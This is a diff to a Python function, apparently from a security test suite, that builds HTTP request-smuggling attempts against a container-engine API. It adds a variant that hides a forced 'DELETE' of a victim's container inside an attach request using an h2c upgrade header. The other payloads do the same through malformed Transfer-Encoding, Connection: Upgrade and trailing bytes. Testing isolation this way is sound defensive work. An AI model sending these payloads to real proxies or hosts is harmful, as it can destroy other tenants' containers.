@@ -166,6 +166,7 @@ def smuggled(victim: str, own: str) -> list[Attempt]:
     """Requests hidden in requests: if the proxy or the engine reads the hidden one, it removes a foreign container."""
     remove = f"DELETE {API}/containers/{victim}?force=true HTTP/1.1\r\nHost: x\r\n\r\n"
     wait = f"POST {API}/containers/{own}/wait HTTP/1.1\r\nHost: x\r\n"
+    attach = f"POST {API}/containers/{own}/attach?stream=1 HTTP/1.1\r\nHost: x\r\n"
     ping = "GET /_ping HTTP/1.1\r\nHost: x\r\n"
     length = len(remove)
     return [
@@ -175,6 +176,7 @@ def smuggled(victim: str, own: str) -> list[Attempt]:
         ("", "", [f"{ping}Transfer-Encoding: xchunked\r\nContent-Length: {length}\r\n\r\n{remove}"]),
         ("", "", [f"{ping}Connection: Upgrade\r\nUpgrade: tcp\r\n\r\n{remove}"]),
         ("", "", [f"{wait}Connection: Upgrade\r\nUpgrade: tcp\r\nContent-Length: {length}\r\n\r\n{remove}"]),
+        ("", "", [f"{attach}Connection: Upgrade\r\nUpgrade: h2c\r\n\r\n{remove}"]),
         ("", "", [f"{ping}X: y\r\n\r\n{remove}"]),
     ]
 
